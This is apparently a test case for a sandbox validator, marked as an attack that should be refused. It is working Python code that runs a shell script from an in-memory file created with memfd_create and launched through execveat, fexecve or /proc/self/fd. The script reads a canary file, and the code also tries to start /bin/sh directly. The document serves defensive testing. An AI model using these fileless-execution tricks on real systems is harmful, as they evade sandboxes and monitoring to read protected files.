# attack: a program that was never a file: memfd_create, filled with a script, started with execveat or by its place in /proc
# expect: validator
# validator: refused
import ctypes
import os

SCRIPT = b"#!/bin/sh\necho ESC''APED: a program out of memory runs\ncat @CANARY_FILE@\n"
X86 = os.uname().machine == "x86_64"
EXECVEAT = 322 if X86 else 281
MEMFD, SECRET = (319, 447) if X86 else (279, 447)
EMPTY_PATH = 0x1000
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def memory():
    """By Python, by number, and the kind that even the kernel cannot read."""
    try:
        return os.memfd_create("program", 0)
    except OSError as error:
        print("memfd_create", error)
    for number, arguments in ((MEMFD, (b"program", 0)), (MEMFD, (b"program", 0x10)), (SECRET, (0,))):
        fd = libc.syscall(ctypes.c_long(number), *arguments)
        if fd >= 0:
            return fd
        print(number, os.strerror(ctypes.get_errno()))
    return -1


fd = memory()
if fd >= 0:
    try:
        os.write(fd, SCRIPT)
    except OSError as error:
        print("the memory file cannot be filled:", error)
    words = (ctypes.c_char_p * 2)(b"program", None)
    nothing = (ctypes.c_char_p * 1)(None)
    os.set_inheritable(fd, True)
    for way in (
        lambda: libc.syscall(ctypes.c_long(EXECVEAT), ctypes.c_long(fd), b"", words, nothing, ctypes.c_long(EMPTY_PATH)),
        lambda: libc.fexecve(fd, words, nothing),
        lambda: libc.execve(f"/proc/self/fd/{fd}".encode(), words, nothing),
    ):
        print(way(), os.strerror(ctypes.get_errno()), flush=True)

# Without a file in memory: programs that are there.
for program in (b"/bin/sh", b"/usr/bin/env", os.fsencode(os.__file__)):
    words = (ctypes.c_char_p * 4)(b"sh", b"-c", b"echo ESC''APED: a shell took the place of the script", None)
    answer = libc.syscall(ctypes.c_long(EXECVEAT), ctypes.c_long(-100), program, words, None, ctypes.c_long(0))
    print(program, answer, os.strerror(ctypes.get_errno()), flush=True)
